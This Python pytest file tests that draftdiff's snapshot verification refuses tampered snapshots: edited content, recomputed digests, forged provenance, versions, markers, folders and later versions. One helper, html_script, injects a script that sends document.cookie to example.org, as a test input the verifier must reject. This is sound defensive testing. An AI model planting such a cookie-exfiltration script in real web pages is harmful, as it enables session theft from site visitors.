"""The tamper suite: every snapshot format × edits of its content, provenance, version, marker and folder.

Authors cite snapshots; a forged one that verifies is the worst failure draftdiff can
have. Each edit below is made to a file that verifies as written, and each edited
file must be refused: exit 2 when the file is not what draftdiff wrote (with the
line), exit 1 when it is self-consistent but the drafts say otherwise. Never 0.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from snapshot_fixtures import write_collection

from draftdiff import __version__
from draftdiff.cli import main
from draftdiff.render import render
from draftdiff.snapshot.digest import compute_digest
from draftdiff.snapshot.model import SNAPSHOT_FORMAT, snapshot_from_dict

FORMATS = ("md", "json", "html", "csv", "text", "bibtex", "csl", "cff")
CITATIONS = ("md", "json", "html", "text", "bibtex", "csl", "cff")
"""Every format but CSV states its provenance (CSV rows hold content and the marker only)."""
ARGS = ("--as-of", "2024-09-15", "--author", "Doe, Jane", "--timestamp")

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def git(cwd: Path, *args: str) -> str:
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.org", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@example.org", GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1")
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True,
                          text=True).stdout.strip()


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


class Made:
    """A repository with two commits (the older gives another digest) and a verified snapshot in every format."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.older = git(root, "rev-parse", "HEAD~1")
        self.head = git(root, "rev-parse", "HEAD")
        self.digest = json.loads((root / "s.json").read_text(encoding="utf-8"))["digest"]

    def text(self, fmt: str) -> str:
        return (self.root / f"s.{fmt}").read_bytes().decode("utf-8")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    root = tmp_path_factory.mktemp("tamper")
    drafts = write_collection(root)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "drafts")
    git(root, "commit", "-q", "-m", "first")
    path = drafts / "b-2024-09-11.yaml"
    path.write_text(first(path.read_text(encoding="utf-8"), "title: Recognition", "title: Mutual recognition"),
                    encoding="utf-8")
    git(root, "commit", "-q", "-am", "a title changes: another digest as of 2024-09-15")
    old = Path.cwd()
    os.chdir(root)
    os.environ["SOURCE_DATE_EPOCH"] = "1735689600"
    try:
        for fmt in FORMATS:
            assert main(["snapshot", *ARGS, "-f", fmt, "-o", f"s.{fmt}"]) == 0
            assert main(["snapshot", "verify", f"s.{fmt}"]) == 0, fmt
    finally:
        os.environ.pop("SOURCE_DATE_EPOCH")
        os.chdir(old)
    return Made(root)


def first(text: str, old: str, new: str) -> str:
    assert old in text, old
    return text.replace(old, new, 1)


def every(text: str, old: str, new: str) -> str:
    assert old in text, old
    return text.replace(old, new)


def edit_embedded(text: str, fmt: str, change: Callable[[dict], None]) -> str:
    """Change the JSON a file embeds, and write it back as draftdiff would have."""
    if fmt == "json":
        data = json.loads(text)
        change(data)
        return json.dumps(data, indent=2, ensure_ascii=False) + "\n"
    pattern = r"(<!-- draftdiff-snapshot )(.*)( -->)" if fmt == "md" else r"(<script[^>]*>)(.*?)(</script>)"
    found = re.search(pattern, text, re.S)
    assert found
    data = json.loads(found.group(2))
    change(data)
    payload = json.dumps(data, ensure_ascii=False, separators=(",", ":"))
    payload = payload.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    return text[:found.start(2)] + payload + text[found.end(2):]


def visible_status(text: str, fmt: str) -> str:
    """The forces article's status, partial, shown as agreed where a reader sees it."""
    if fmt == "md":
        return first(text, "**partial**", "**agreed**")
    if fmt == "html":
        return first(text, '<span class="partial">◐ partial</span>', '<span class="agreed">✓ agreed</span>')
    if fmt == "json":
        return edit_embedded(text, fmt, lambda d: d["content"]["articles"][2].update(status="agreed"))
    if fmt == "csv":
        return first(text, ",partial,", ",agreed,")
    if fmt == "text":
        return first(text, "◐ partial ", "✓ agreed  ")
    return every(text, "Status of the 4 articles", "Status of the 5 articles")  # what a citation states


def forged(made: Made, fmt: str) -> str:
    """A whole forgery: the content changed, the digest recomputed, the file rendered by draftdiff itself."""
    snap = snapshot_from_dict(json.loads(made.text("json")))
    articles = list(snap.articles)
    articles[2] = replace(articles[2], status="agreed")
    fake = replace(snap, articles=tuple(articles), counts=replace(snap.counts, agreed=3, partial=0))
    return render("snapshot", fmt, replace(fake, digest=compute_digest(fake)))


def provenance_null(text: str, fmt: str) -> str:
    return edit_embedded(text, fmt, lambda d: d.update(provenance=None))


def one_commit(made: Made) -> Callable[[str, str], str]:
    return lambda text, fmt: first(text, made.head, made.older)


def every_commit(made: Made) -> Callable[[str, str], str]:
    return lambda text, fmt: every(text, made.head, made.older)


def tool_version(text: str, fmt: str) -> str:
    """Another version of draftdiff named, consistently, everywhere it is named."""
    text = every(text, f"draftdiff {__version__}", "draftdiff 9.9.9")
    for old in (f'"tool_version": "{__version__}"', f'"tool_version":"{__version__}"'):
        text = text.replace(old, old.replace(__version__, "9.9.9"))
    return text


def tool_version_json_only(text: str, fmt: str) -> str:
    return edit_embedded(text, fmt, lambda d: d["provenance"].update(tool_version="9.9.9"))


def format_version(text: str, fmt: str) -> str:
    """The snapshot format's version (the layout of the JSON, the marker's number) made one more."""
    if fmt in ("md", "json", "html"):
        number = int(SNAPSHOT_FORMAT.rsplit("/", 1)[1])
        return every(text, SNAPSHOT_FORMAT, SNAPSHOT_FORMAT.replace(f"/{number}", f"/{number + 1}"))
    found = re.search(r"draftdiff-snapshot:(\d+) ", text)
    assert found
    return every(text, found.group(0), f"draftdiff-snapshot:{int(found.group(1)) + 1} ")


def marker_once(text: str, fmt: str) -> str:
    return first(text, "as-of=2024-09-15", "as-of=2024-09-16")


def marker_everywhere(text: str, fmt: str) -> str:
    return every(text, "as-of=2024-09-15", "as-of=2024-09-16")


def digest_everywhere(made: Made) -> Callable[[str, str], str]:
    return lambda text, fmt: every(text, made.digest.removeprefix("sha256:"), "0" * 64)


def folder_once(text: str, fmt: str) -> str:
    dashes = "-{}-" if fmt == "bibtex" else "--"  # BibTeX breaks '--' so TeX prints no dash
    return first(text, f"{dashes}drafts drafts", f"{dashes}drafts elsewhere")


def html_script(text: str, fmt: str) -> str:
    return first(text, "</body>", "<script>fetch('https://example.org/?'+document.cookie)</script>\n</body>")


def verify_edited(made: Made, capsys: pytest.CaptureFixture[str], fmt: str, edited: str) -> tuple[int, str, str]:
    """``snapshot verify`` of ``edited`` written beside the drafts, run from there as a reader would."""
    path = made.root / f"edited.{fmt}"
    path.write_bytes(edited.encode("utf-8"))
    old = Path.cwd()
    os.chdir(made.root)
    try:
        return run(capsys, "snapshot", "verify", path.name)
    finally:
        os.chdir(old)


def check(made: Made, capsys: pytest.CaptureFixture[str], fmt: str, edited: str, codes: tuple[int, ...]) -> str:
    assert edited != made.text(fmt), "the edit changed nothing"
    code, out, err = verify_edited(made, capsys, fmt, edited)
    assert code in codes, (code, out, err)
    assert "verified:" not in out and "Traceback" not in err and "internal error" not in err
    return out + err


EDITED = (2,)
"""Not what draftdiff wrote: refused as edited."""
REFUSED = (1, 2)
"""Self-consistent, but the drafts (or the commit it names) say otherwise."""


@needs_git
@pytest.mark.parametrize("fmt", FORMATS)
def test_content_edited_where_a_reader_sees_it(made: Made, capsys, fmt: str) -> None:
    said = check(made, capsys, fmt, visible_status(made.text(fmt), fmt), EDITED)
    assert re.search(rf"edited\.{fmt}(:\d+(:\d+)?)?: ", said)


@needs_git
@pytest.mark.parametrize("fmt", FORMATS)
def test_content_forged_with_its_digest_recomputed(made: Made, capsys, fmt: str) -> None:
    said = check(made, capsys, fmt, forged(made, fmt), REFUSED)
    if "does NOT match" in said and fmt in ("md", "json", "html", "csv"):
        assert "article 3 (forces): status agreed → partial" in said


@needs_git
@pytest.mark.parametrize("fmt", CITATIONS)
def test_provenance_commit_edited_once(made: Made, capsys, fmt: str) -> None:
    check(made, capsys, fmt, one_commit(made)(made.text(fmt), fmt), EDITED)


@needs_git
@pytest.mark.parametrize("fmt", CITATIONS)
def test_provenance_commit_edited_everywhere_names_a_commit_that_does_not_give_it(made: Made, capsys,
                                                                                  fmt: str) -> None:
    said = check(made, capsys, fmt, every_commit(made)(made.text(fmt), fmt), EDITED)
    assert "the commit or folder it names was edited" in said


@needs_git
@pytest.mark.parametrize("fmt", ["md", "json", "html"])
def test_provenance_set_to_null_does_not_skip_the_check(made: Made, capsys, fmt: str) -> None:
    said = check(made, capsys, fmt, provenance_null(made.text(fmt), fmt), EDITED)
    assert "records no provenance" in said


@needs_git
@pytest.mark.parametrize("fmt", CITATIONS)
def test_version_edited_everywhere_is_refused(made: Made, capsys, fmt: str) -> None:
    said = check(made, capsys, fmt, tool_version(made.text(fmt), fmt), EDITED)
    assert "only by the version that wrote it" in said or "not what draftdiff wrote" in said


@needs_git
@pytest.mark.parametrize("fmt", ["md", "json", "html", "bibtex", "csl", "cff"])
def test_a_repository_address_added_beside_a_real_commit_is_said(made: Made, capsys, fmt: str) -> None:
    """The address is not proven (a fork's clone has another): not refused, but never passed over in silence."""
    snap = snapshot_from_dict(json.loads(made.text("json")))
    assert snap.provenance is not None and snap.provenance.repository is None
    url = "https://example.org/official-mfa/drafts"
    edited = render("snapshot", fmt, replace(snap, provenance=replace(snap.provenance, repository=url)))
    assert url in edited
    code, said, _ = verify_edited(made, capsys, fmt, edited)
    assert code == 0 and f"note: the repository it names ({url}) is not this repository's public origin (none)" in said


@needs_git
@pytest.mark.parametrize("fmt", ["md", "json", "html"])
def test_version_edited_in_the_embedded_json_only(made: Made, capsys, fmt: str) -> None:
    check(made, capsys, fmt, tool_version_json_only(made.text(fmt), fmt), EDITED)


@needs_git
@pytest.mark.parametrize("fmt", FORMATS)
def test_format_version_edited(made: Made, capsys, fmt: str) -> None:
    check(made, capsys, fmt, format_version(made.text(fmt), fmt), EDITED)


@needs_git
@pytest.mark.parametrize("fmt", FORMATS)
def test_marker_edited_once(made: Made, capsys, fmt: str) -> None:
    check(made, capsys, fmt, marker_once(made.text(fmt), fmt), EDITED)


@needs_git
@pytest.mark.parametrize("fmt", FORMATS)
def test_marker_edited_everywhere(made: Made, capsys, fmt: str) -> None:
    check(made, capsys, fmt, marker_everywhere(made.text(fmt), fmt), REFUSED)


@needs_git
@pytest.mark.parametrize("fmt", FORMATS)
def test_digest_edited_everywhere(made: Made, capsys, fmt: str) -> None:
    said = check(made, capsys, fmt, digest_everywhere(made)(made.text(fmt), fmt), REFUSED)
    if fmt in ("csv", "text", "bibtex", "csl", "cff") and "does NOT match" in said:
        assert "its text was not checked line by line" in said


@needs_git
@pytest.mark.parametrize("fmt", CITATIONS)
def test_folder_edited_in_the_reproduce_command(made: Made, capsys, fmt: str) -> None:
    check(made, capsys, fmt, folder_once(made.text(fmt), fmt), EDITED)


@needs_git
def test_an_html_snapshot_with_an_added_script_is_refused(made: Made, capsys) -> None:
    said = check(made, capsys, "html", html_script(made.text("html"), "html"), EDITED)
    assert "<script>fetch" in said or "this line is not what draftdiff wrote" in said or "more lines" in said


# --- made outside git: the provenance is what draftdiff decides, nothing the file adds -----------------

class Outside:
    """A collection in no repository, and a verified snapshot in every format made from it."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def text(self, fmt: str, name: str = "s") -> str:
        return (self.root / f"{name}.{fmt}").read_bytes().decode("utf-8")


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Outside:
    root = tmp_path_factory.mktemp("outside")
    write_collection(root)
    old, ceiling = Path.cwd(), os.environ.get("GIT_CEILING_DIRECTORIES")
    os.chdir(root)
    os.environ["GIT_CEILING_DIRECTORIES"] = str(root.parent)  # no repository above, wherever the tests run
    try:
        for fmt in FORMATS:
            assert main(["snapshot", *ARGS, "-f", fmt, "-o", f"s.{fmt}"]) == 0
            assert main(["snapshot", "verify", f"s.{fmt}"]) == 0, fmt
    finally:
        os.chdir(old)
        if ceiling is None:
            os.environ.pop("GIT_CEILING_DIRECTORIES")
        else:
            os.environ["GIT_CEILING_DIRECTORIES"] = ceiling
    assert json.loads(Outside(root).text("json"))["provenance"]["git_commit"] is None
    return Outside(root)


def check_outside(outside: Outside, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, fmt: str,
                  edited: str, codes: tuple[int, ...]) -> str:
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(outside.root.parent))
    return check(outside, capsys, fmt, edited, codes)  # type: ignore[arg-type]


FORGED_PROVENANCE = {
    "repository": lambda p: p.update(repository="https://example.org/official-mfa/drafts"),
    "git_note": lambda p: p.update(git_note="clean checkout of the official repository"),
    "git_dirty": lambda p: p.update(git_dirty=False),
    "git_path": lambda p: p.update(git_path="drafts"),
    "drafts_path not text": lambda p: p.update(drafts_path=5),
    "authors not a list": lambda p: p.update(authors="Doe, Jane"),
}


@pytest.mark.parametrize("fmt", ["md", "json", "html"])
@pytest.mark.parametrize("what", sorted(FORGED_PROVENANCE))
def test_provenance_draftdiff_never_writes_is_refused(outside: Outside, capsys, monkeypatch, fmt: str,
                                                      what: str) -> None:
    """A repository, a dirty flag, a folder in a repository or a note with no commit: not draftdiff's."""
    edited = edit_embedded(outside.text(fmt), fmt, lambda d: FORGED_PROVENANCE[what](d["provenance"]))
    if fmt == "json" and what == "repository":  # the tester's edit: the one line, by hand
        edited = first(outside.text(fmt), '"repository": null', '"repository": "https://example.org/official-mfa/drafts"')
    said = check_outside(outside, capsys, monkeypatch, fmt, edited, EDITED)
    assert re.search(rf"edited\.{fmt}(:\d+(:\d+)?)?: ", said), said


def folder_everywhere(text: str, fmt: str) -> str:
    """Another drafts folder named wherever the file names it (outside git: the command, and drafts_path)."""
    dashes = "-{}-" if fmt == "bibtex" else "--"
    text = every(text, f"{dashes}drafts drafts", f"{dashes}drafts drafus")
    for old in ('"drafts_path": "drafts"', '"drafts_path":"drafts"'):
        text = text.replace(old, old.replace('"drafts"', '"drafus"'))
    return text


@pytest.mark.parametrize("fmt", CITATIONS)
def test_a_folder_edited_outside_git_is_named_the_same_way_in_every_format(outside: Outside, capsys, monkeypatch,
                                                                          fmt: str) -> None:
    """Outside git the folder is what the file says, in every format (nothing can prove it): verify says so."""
    if fmt in ("md", "json", "html"):  # named twice: the command alone edited is not what draftdiff wrote
        check_outside(outside, capsys, monkeypatch, fmt, folder_once(outside.text(fmt), fmt), EDITED)
    edited = folder_everywhere(outside.text(fmt), fmt)
    path = outside.root / f"edited.{fmt}"
    path.write_bytes(edited.encode("utf-8"))
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(outside.root.parent))
    monkeypatch.chdir(outside.root)
    code, out, _ = run(capsys, "snapshot", "verify", path.name)
    assert (code, out.count("note:")) == (0, 1)
    assert "note: the snapshot names the drafts folder drafus, which is not here" in out


# --- the later versions: not in the digest, but every one a file names is as the drafts give it -------------

FORGED_LATER = {
    "title": lambda d: d.update(title="The official signed text"),
    "id": lambda d: d.update(id="2024-12-19-signed"),
    "sha256": lambda d: d.update(sha256="0" * 64),
    "blob_id": lambda d: d.update(blob_id="1" * 40),
    "date": lambda d: d.update(date="2024-12-19"),
    "file": lambda d: d.update(file="drafts/official-signed-text.yaml"),
}


@pytest.mark.parametrize("fmt", ["md", "json", "html"])
@pytest.mark.parametrize("what", sorted(FORGED_LATER))
def test_a_later_version_edited_in_the_embedded_snapshot_is_refused(outside: Outside, capsys, monkeypatch, fmt: str,
                                                                   what: str) -> None:
    def change(data: dict) -> None:
        assert [d["id"] for d in data["later_versions"]] == ["2024-12-18-status"]
        FORGED_LATER[what](data["later_versions"][0])

    edited = edit_embedded(outside.text(fmt), fmt, change)
    if fmt != "json":  # where a reader sees it too, as draftdiff would have shown it
        edited = edited.replace("2024-12-18-status` (2024-12-18)", "2024-12-19-signed` (2024-12-18)") \
            if what == "id" else edited
    said = check_outside(outside, capsys, monkeypatch, fmt, edited, EDITED)
    assert re.search(rf"edited\.{fmt}:\d+:\d+: ", said), said


@pytest.mark.parametrize("edit", [("2024-12-18-status (2024-12-18)", "2024-12-19-signed (2024-12-18)"),
                                  ("2024-12-18-status (2024-12-18)", "2024-12-18-status (2024-12-19)")])
def test_a_later_version_edited_on_the_board_is_refused(outside: Outside, capsys, monkeypatch,
                                                        edit: tuple[str, str]) -> None:
    said = check_outside(outside, capsys, monkeypatch, "text", first(outside.text("text"), *edit), EDITED)
    assert "edited.text:3:" in said and "the versions dated after the status date are not in the digest" in said


@pytest.mark.parametrize("fmt", ["md", "json", "html", "text"])
def test_a_later_version_added_since_verifies_and_is_named(tmp_path: Path, capsys, monkeypatch, fmt: str) -> None:
    drafts = write_collection(tmp_path)
    monkeypatch.chdir(tmp_path)
    assert main(["snapshot", "--as-of", "2024-09-15", "-f", fmt, "-o", f"s.{fmt}"]) == 0
    text = (drafts / "c-2024-12-18.yaml").read_text(encoding="utf-8")
    (drafts / "d.yaml").write_text(text.replace("2024-12-18-status", "2025-01-10-status").replace(
        "date: '2024-12-18'", "date: '2025-01-10'"), encoding="utf-8")
    code, out, _ = run(capsys, "snapshot", "verify", f"s.{fmt}")
    assert code == 0 and "later versions added since (not part of this snapshot): 2025-01-10-status" in out


@pytest.mark.parametrize("fmt", ["md", "json", "html"])
def test_later_versions_of_a_collection_checked_out_elsewhere_verify(tmp_path: Path, capsys, monkeypatch,
                                                                   fmt: str) -> None:
    """The file names a later version by the path it was made with; the same file elsewhere is the same."""
    drafts = write_collection(tmp_path)
    monkeypatch.chdir(tmp_path)
    assert main(["snapshot", "--drafts", str(drafts), "--as-of", "2024-09-15", "-f", fmt, "-o", f"s.{fmt}"]) == 0
    assert str(drafts / "c-2024-12-18.yaml") in (tmp_path / f"s.{fmt}").read_text(encoding="utf-8")
    code, out, _ = run(capsys, "snapshot", "verify", f"s.{fmt}", "--drafts", "drafts")
    assert code == 0 and "verified" in out


def test_a_later_version_changed_since_is_refused_but_verifies_at_its_commit(tmp_path: Path, capsys,
                                                                            monkeypatch) -> None:
    """Without git nothing tells an edited file from a later draft edited since; the commit it names does."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    drafts = write_collection(tmp_path)
    git(tmp_path, "init", "-q", "-b", "main")
    git(tmp_path, "add", "drafts")
    git(tmp_path, "commit", "-q", "-m", "first")
    monkeypatch.chdir(tmp_path)
    assert main(["snapshot", "--as-of", "2024-09-15", "-f", "json", "-o", "s.json"]) == 0
    path = drafts / "c-2024-12-18.yaml"
    path.write_text(first(path.read_text(encoding="utf-8"), "title: Recognition", "title: Mutual recognition"),
                    encoding="utf-8")
    git(tmp_path, "commit", "-q", "-am", "the later version changes")
    code, out, _ = run(capsys, "snapshot", "verify", "s.json")  # rebuilt at the commit it names: as written
    assert code == 0 and "verified" in out
    monkeypatch.chdir(tmp_path / "drafts")
    shutil.rmtree(tmp_path / ".git")
    code, out, err = run(capsys, "snapshot", "verify", "../s.json", "--drafts", ".")
    assert code == 2 and '"blob_id"' in err and "each one the file names must be as these drafts" in err


# --- a snapshot made from a tampered copy elsewhere ------------------------------------------------------

@pytest.fixture
def copy_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """The real collection in repo/, and a tampered copy outside it that a snapshot was made from."""
    repo = tmp_path / "repo"
    write_collection(repo)
    (repo / "notes").mkdir()
    copy = write_collection(tmp_path / "elsewhere")
    path = copy / "b-2024-09-11.yaml"
    path.write_text(first(path.read_text(encoding="utf-8"), "title: Borders", "title: Borders as the copy has them"),
                    encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    for fmt in FORMATS:
        assert main(["snapshot", "--drafts", str(copy), "--as-of", "2024-09-15", "-f", fmt,
                     "-o", str(repo / f"s.{fmt}")]) == 0
    monkeypatch.chdir(repo)
    return repo, copy


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_snapshot_of_a_tampered_copy_does_not_verify_in_the_real_collection(copy_elsewhere, capsys,
                                                                             fmt: str) -> None:
    code, out, _ = run(capsys, "snapshot", "verify", f"s.{fmt}")
    assert code == 1 and "does NOT match the drafts in drafts" in out


@pytest.mark.parametrize("fmt", ["md", "json", "html"])
def test_a_recorded_folder_outside_the_repository_is_refused_unless_asked(copy_elsewhere, capsys, monkeypatch,
                                                                         fmt: str) -> None:
    repo, copy = copy_elsewhere
    monkeypatch.chdir(repo / "notes")  # no ./drafts here: the folder the file names would be the one used
    code, out, err = run(capsys, "snapshot", "verify", f"../s.{fmt}")
    assert code == 2 and "outside this repository" in err and "--recorded-folder" in err and out == ""
    code, out, _ = run(capsys, "snapshot", "verify", f"../s.{fmt}", "--recorded-folder")
    assert code == 0 and f"verified: it matches the drafts in {copy}" in out


@pytest.mark.parametrize("fmt", ["md", "json"])
def test_the_folder_used_is_named_and_the_recorded_one_mentioned(copy_elsewhere, capsys, fmt: str) -> None:
    repo, copy = copy_elsewhere
    code, out, _ = run(capsys, "snapshot", "verify", f"s.{fmt}")
    assert code == 1 and "does NOT match the drafts in drafts" in out
    assert f"the snapshot was made from the drafts in {copy}" in out


# --- what the file is -------------------------------------------------------------------------------------

def test_a_fifo_and_a_link_to_dev_zero_are_refused_without_reading(tmp_path: Path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    os.mkfifo("pipe.json")  # opening it for reading would block until a writer came
    code, out, err = run(capsys, "snapshot", "verify", "pipe.json")
    assert code == 2 and "not a regular file" in err and out == ""
    if os.path.exists("/dev/zero"):
        os.symlink("/dev/zero", "zero.json")
        code, _, err = run(capsys, "snapshot", "verify", "zero.json")
        assert code == 2 and "not a regular file" in err


def test_a_file_over_the_size_limit_is_refused(tmp_path: Path, capsys, monkeypatch) -> None:
    from draftdiff.load import MAX_BYTES

    monkeypatch.chdir(tmp_path)
    with open("big.json", "wb") as handle:
        handle.truncate(MAX_BYTES + 1)
    code, _, err = run(capsys, "snapshot", "verify", "big.json")
    assert code == 2 and f"larger than {MAX_BYTES:,} bytes" in err


def test_a_citation_whose_drafts_changed_says_only_its_marker_was_read(tmp_path: Path, capsys, monkeypatch) -> None:
    write_collection(tmp_path)
    monkeypatch.chdir(tmp_path)
    run(capsys, "snapshot", "--as-of", "2024-09-15", "-f", "cff", "-o", "s.cff")
    path = tmp_path / "drafts" / "b-2024-09-11.yaml"
    path.write_text(first(path.read_text(encoding="utf-8"), "title: Borders", "title: Borders and more"),
                    encoding="utf-8")
    code, out, _ = run(capsys, "snapshot", "verify", "s.cff")
    assert code == 1 and "only the marker of this cff file could be read" in out


def test_a_changed_claim_reads_as_a_change(tmp_path: Path, capsys, monkeypatch) -> None:
    write_collection(tmp_path)
    monkeypatch.chdir(tmp_path)
    run(capsys, "snapshot", "--as-of", "2024-09-15", "-f", "json", "-o", "s.json")
    path = tmp_path / "drafts" / "b-2024-09-11.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(first(text, "agreed: 2, partial: 1, disputed: 1", "agreed: 2, partial: 1, disputed: 1, total: 4"),
                    encoding="utf-8")
    code, out, _ = run(capsys, "snapshot", "verify", "s.json")
    assert code == 1
    assert "claimed count Leader 2024-09-11 [src-b]: total none → 4" in out
    assert "removed" not in out and "added" not in out


@needs_git
@pytest.mark.parametrize("fmt", ["md", "json", "html"])
def test_a_draft_file_renamed_in_the_snapshot_everywhere_is_refused(made: Made, capsys, fmt: str) -> None:
    """File names are not in the digest, but a snapshot states them: one written over another is caught."""
    edited = every(made.text(fmt), "drafts/b-2024-09-11.yaml", "drafts/official-signed-text.yaml")
    if fmt == "md":  # the visible lines spell the name with Markdown's escapes (no autolink)
        from draftdiff.render.markdown import inline

        edited = every(edited, inline("drafts/b-2024-09-11.yaml"), inline("drafts/official-signed-text.yaml"))
    said = check(made, capsys, fmt, edited, (1,))
    assert "draft 2024-09-11-status: the snapshot names its file drafts/official-signed-text.yaml; in these " \
           "drafts it is drafts/b-2024-09-11.yaml" in said


def test_a_snapshot_of_the_bundled_drafts_verifies_where_it_was_made(tmp_path: Path, capsys, monkeypatch) -> None:
    from draftdiff.bundled import drafts_dir

    if drafts_dir() is None:
        pytest.skip("this install bundles no drafts")
    monkeypatch.chdir(tmp_path)  # no ./drafts: the bundled ones are the current collection, inside or not
    assert run(capsys, "snapshot", "--as-of", "2024-12-20", "-f", "md", "-o", "s.md")[0] == 0
    code, out, _ = run(capsys, "snapshot", "verify", "s.md")
    assert code == 0 and f"verified: it matches the drafts in {drafts_dir()}" in out
